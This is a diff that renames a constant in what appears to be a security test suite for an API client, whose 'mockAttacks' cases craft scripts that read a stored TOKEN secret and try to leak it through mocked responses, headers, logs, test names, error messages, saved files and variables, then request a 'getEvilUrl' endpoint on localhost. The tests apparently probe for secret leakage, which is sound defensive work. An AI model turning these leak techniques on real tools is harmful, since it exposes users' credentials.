@@ -15,14 +15,14 @@ const sendMocked = (lab: Lab, answer: string, more: object = {}, url = `http://1
     ...more,
   });
 
-const inBody =
+const tokenMockScript =
   "return new ServiceResponse(JSON.stringify({ token }), { status: 200, headers: { 'content-type': 'application/json', 'x-token': token } });";
 
 /** Returns what is sent for a variable that stores a mocked response. */
 const sendStoredAnswer = async (lab: Lab, onResponse: string): Promise<Outcome> => {
   await lab.execute({
     url: `http://127.0.0.1:${lab.home}/`,
-    script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${inBody} }
+    script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${tokenMockScript} }
 export function onResponse(req, res) { ${onResponse} }`,
   });
   return lab.send({ url: getEvilUrl(lab, '/{{MOCKED}}') });
@@ -34,7 +34,7 @@ export const mockAttacks: readonly Attack[] = [
     'mocked answers',
     'its body and its headers',
     /^200$/,
-    async (lab) => lab.outcomeOf(await sendMocked(lab, inBody)),
+    async (lab) => lab.outcomeOf(await sendMocked(lab, tokenMockScript)),
   ],
   [
     'mocked answers',
@@ -113,7 +113,7 @@ export const mockAttacks: readonly Attack[] = [
       const { id } = await lab.call('rest_create', {
         name: `M${Math.random()}`,
         url: `http://127.0.0.1:${lab.home}/`,
-        script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${inBody} }`,
+        script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${tokenMockScript} }`,
       });
       await lab.call('rest_execute', { id, saveTo: file });
       const saved = await readFile(join(lab.folder, file), 'utf8').catch(String);
@@ -126,8 +126,8 @@ export const mockAttacks: readonly Attack[] = [
     'its stored execution, a comparison and a selection',
     /^done$/,
     async (lab) => {
-      const one = (await sendMocked(lab, inBody)) as { executionId: string };
-      const other = (await sendMocked(lab, inBody.replace('{ token }', '{ token: token + 1 }'))) as {
+      const one = (await sendMocked(lab, tokenMockScript)) as { executionId: string };
+      const other = (await sendMocked(lab, tokenMockScript.replace('{ token }', '{ token: token + 1 }'))) as {
         executionId: string;
       };
       await lab.call('executions_get', { id: one.executionId });
@@ -145,7 +145,7 @@ export const mockAttacks: readonly Attack[] = [
       lab.outcomeOf(
         await lab.execute({
           url: `http://127.0.0.1:${lab.home}/`,
-          script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); console.log(token, { [token]: [token] }); ${inBody} }
+          script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); console.log(token, { [token]: [token] }); ${tokenMockScript} }
 export function onTest(req, res) { const { token } = res.json(); test(token, () => { throw new Error(token); }); test('x', () => expect(token).toBe('y')); }`,
         }),
       ),
@@ -158,7 +158,7 @@ export function onTest(req, res) { const { token } = res.json(); test(token, () 
       const { id } = await lab.call('rest_create', {
         name: `Run ${Math.random()}`,
         url: `http://127.0.0.1:${lab.home}/`,
-        script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${inBody} }
+        script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${tokenMockScript} }
 export function onTest(req, res) { test(res.json().token, () => { throw new Error(res.json().token); }); }`,
       });
       await lab.call('runs_execute', { ids: [id], report: 'full' });
@@ -174,7 +174,7 @@ export function onTest(req, res) { test(res.json().token, () => { throw new Erro
       const { id } = await lab.call('rest_create', {
         name: `Need ${Math.random()}`,
         url: `http://127.0.0.1:${lab.home}/`,
-        script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${inBody} }
+        script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${tokenMockScript} }
 export function onResponse(req, res) { res.env.setVariable('NEEDED', res.json().token); }`,
       });
       const got = await lab.call('rest_create', {
@@ -194,7 +194,7 @@ export function onResponse(req, res) { res.env.setVariable('NEEDED', res.json().
       await lab.call('rest_create', {
         name,
         url: `http://127.0.0.1:${lab.home}/`,
-        script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${inBody} }`,
+        script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${tokenMockScript} }`,
       });
       return lab.outcomeOf(
         await lab.execute({
